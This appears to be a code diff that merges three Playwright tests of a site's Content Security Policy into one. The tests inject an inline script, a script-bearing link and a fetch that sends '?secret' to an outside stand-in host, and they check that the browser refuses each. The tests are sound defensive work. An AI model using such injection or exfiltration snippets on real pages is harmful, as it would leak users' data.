@@ -7,7 +7,9 @@ test.describe('the security policy', { tag: '@desktop' }, () => {
       allow: { hosts: [], messages: [/policy violation|Content.Security.Policy|^Refused to/i] },
     });
 
-    test('runs no inline script, handler or style', async ({ page }) => {
+    test('runs no inline script, handler or style, evaluates no text as code, and asks and tells no other host', async ({
+      page,
+    }) => {
       await page.goto(routes.about);
       const outcome = await page.evaluate(async () => {
         const script = document.createElement('script');
@@ -25,10 +27,7 @@ test.describe('the security policy', { tag: '@desktop' }, () => {
       });
       expect(outcome.title).not.toBe('taken over');
       expect(outcome.color).not.toBe('rgb(255, 0, 0)');
-    });
 
-    test('evaluates no text as code', async ({ page }) => {
-      await page.goto(routes.about);
       const refused = page.waitForEvent('console', (message) => /policy/i.test(message.text()));
       await page.evaluate(() => {
         const link = document.createElement('a');
@@ -38,10 +37,7 @@ test.describe('the security policy', { tag: '@desktop' }, () => {
       });
       await refused;
       expect(await page.title()).not.toBe('taken over');
-    });
 
-    test('asks and tells no other host', async ({ page }) => {
-      await page.goto(routes.about);
       const answer = await page.evaluate(() =>
         fetch('https://elsewhere.example/?secret').then(
           () => 'sent',
